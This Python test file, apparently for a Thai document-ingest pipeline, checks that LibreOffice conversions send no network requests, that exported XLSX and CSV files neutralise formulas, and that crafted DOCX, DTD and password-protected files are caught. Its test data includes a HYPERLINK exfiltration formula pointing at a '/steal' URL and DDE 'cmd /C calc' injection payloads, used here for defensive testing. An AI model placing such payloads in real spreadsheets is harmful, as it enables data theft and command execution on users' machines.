"""Hostile files and broken disks: no outbound request, no live formula, no stuck run, no traceback."""

from __future__ import annotations

import csv
import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from hostile_files import docx_posing_as_odt, linked_image_docx, linked_rtf, password_docx
from test_guard import form_docx

from pipeline import office
from pipeline.ingest.limits import EncryptedFileError, Limits, XmlEntityError
from pipeline.ingest.sandbox import guarded_extract
from pipeline.readers.sniff import file_type
from pipeline.reports.inputs import sample_report_inputs
from pipeline.reports.summary import write_summary
from pipeline.scoring.committee import CommitteeScore, read_csv, write_csv

HOSTILE = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"คลิก")'


# --------------------------------------------------------------------------- LibreOffice never fetches
class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def _any(self) -> None:
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(404)
        self.end_headers()

    do_GET = do_HEAD = do_OPTIONS = do_POST = do_PROPFIND = _any

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on loopback that records every request it gets."""
    seen: list[str] = []
    handler = type("Handler", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def _linked_files(tmp: Path, url: str) -> dict[str, Path]:
    """A DOCX with an externally linked image, and the same saved by LibreOffice as .odt and .doc; an RTF."""
    docx = linked_image_docx(tmp / "linked.docx", f"{url}/image.png")
    made = tmp / "made"
    with office._profile() as profile:  # made in the jail: making them must not fetch either
        for kind in ("odt", "doc"):
            office._run_soffice(["--convert-to", kind, "--outdir", str(made), str(docx)], profile, 120, kind, "x")
    files = {"docx": docx, "odt": made / "linked.odt", "doc": made / "linked.doc",
             "rtf": linked_rtf(tmp / "linked.rtf", f"{url}/rtf.png")}
    for path in files.values():  # each really names the listener, so the test can fail
        assert url.encode() in path.read_bytes() or _in_zip(path, url)
    return files


def _in_zip(path: Path, text: str) -> bool:
    import zipfile

    with zipfile.ZipFile(path) as package:
        return any(text.encode() in package.read(name) for name in package.namelist())


@pytest.mark.slow
def test_libreoffice_sends_no_request_for_linked_content(listener, tmp_path: Path) -> None:
    url, seen = listener
    files = _linked_files(tmp_path, url)
    assert seen == []
    for kind, path in files.items():
        out = tmp_path / f"out-{kind}"
        if kind == "docx":
            office.convert_to_pdf([path], out, timeout=120)
        else:
            office.convert_to_docx(path, out, timeout=120)
        assert seen == [], f"{kind}: {seen}"


@pytest.mark.slow
def test_the_profile_alone_keeps_libreoffice_from_fetching(listener, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    # Where no network namespace is allowed, the profile is all there is: it must hold on its own.
    url, seen = listener
    files = _linked_files(tmp_path, url)
    monkeypatch.setattr(office, "network_jail", lambda: ())
    for kind in ("odt", "doc"):
        office.convert_to_docx(files[kind], tmp_path / f"out-{kind}", timeout=120)
    office.convert_to_pdf([files["docx"]], tmp_path / "out-docx", timeout=120)
    assert seen == []


def test_soffice_runs_without_a_network_where_the_machine_allows_it(listener) -> None:
    jail = office.network_jail()
    if not jail:
        pytest.skip("no network namespace allowed here (unshare/bwrap refused): the profile alone guards")
    import subprocess
    import sys

    url, seen = listener
    port = url.rsplit(":", 1)[1]
    probe = [sys.executable, "-c", f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5)"]
    assert subprocess.run(probe, capture_output=True, timeout=30).returncode == 0  # outside: it connects
    jailed = subprocess.run([*jail, *probe], capture_output=True, text=True, timeout=30)
    assert jailed.returncode != 0 and "OSError" in jailed.stderr or "Error" in jailed.stderr


# --------------------------------------------------------------------------- no live formula
def test_summary_xlsx_holds_no_formula_the_project_did_not_write(tmp_path: Path) -> None:
    inputs = sample_report_inputs()
    names = [HOSTILE, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]
    cards = [inputs[n % len(inputs)].card.model_copy(update={"agency": name}) for n, name in enumerate(names)]
    xlsx, _ = write_summary(cards, tmp_path)
    book = openpyxl.load_workbook(xlsx)
    formulas = [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert [row[1].value for row in book.worksheets[0].iter_rows(min_row=2)] == names  # kept, as text
    assert book.worksheets[0]["B2"].quotePrefix
    assert [c.value for c in book.worksheets[1]["A"][1:]].count(HOSTILE) == len(cards[0].findings)


def test_committee_csv_neutralises_formula_starts_and_reads_them_back(tmp_path: Path) -> None:
    score = CommitteeScore(agency=HOSTILE, fiscal_year=2568, project_name="@SUM(A1:A9)",
                           points={"plan": 2, "creativity": 8, "benefit": 6}, committee_name="\tนายทดสอบ",
                           note="-1+1")
    path = write_csv([score], tmp_path / "committee.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [value for row in csv.DictReader(handle) for value in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    back = read_csv(path)[0]
    assert (back.agency, back.project_name, back.note) == (HOSTILE, "@SUM(A1:A9)", "-1+1")


# --------------------------------------------------------------------------- typing by the whole container
def test_a_docx_with_an_odt_first_entry_is_typed_docx_and_gets_every_docx_check(tmp_path: Path) -> None:
    good = form_docx(tmp_path / "good.docx")
    posing = docx_posing_as_odt(good, tmp_path / "posing.docx")
    assert file_type(posing) == "docx"
    assert guarded_extract(posing, Limits()).kind == "form1"
    import zipfile

    xml = zipfile.ZipFile(good).read("word/document.xml").decode()
    head, _, body = xml.partition("?>")
    with_dtd = f'{head}?><!DOCTYPE w:document [<!ENTITY x "x">]>{body}'.encode()
    for name in ("posing-dtd.docx", "posing-dtd.odt"):  # whatever its name says
        crafted = docx_posing_as_odt(good, tmp_path / name, with_dtd)
        assert file_type(crafted) == "docx"
        with pytest.raises(Exception) as caught:
            guarded_extract(crafted, Limits(), where=f"inbox/{name}")
        assert isinstance(caught.value, (XmlEntityError, *(() if name.endswith(".docx") else (Exception,))))
        assert "DTD" in caught.value.message_en or "named .odt" in caught.value.message_en


@pytest.mark.parametrize("name", ["locked.docx", "locked.doc", "locked.bin"])
def test_a_password_protected_word_file_is_named_so_with_what_to_do(tmp_path: Path, name: str) -> None:
    locked = password_docx(form_docx(tmp_path / "plain.docx"), tmp_path / "locked")
    path = shutil.move(locked, tmp_path / name)
    assert file_type(Path(path)) == "encrypted-office"
    with pytest.raises(EncryptedFileError) as caught:
        guarded_extract(Path(path), Limits(), where=f"inbox/{name}")
    assert "password" in caught.value.message_en and "send it again" in caught.value.message_en
    assert "รหัสผ่าน" in caught.value.message_th and ".doc" not in caught.value.message_en
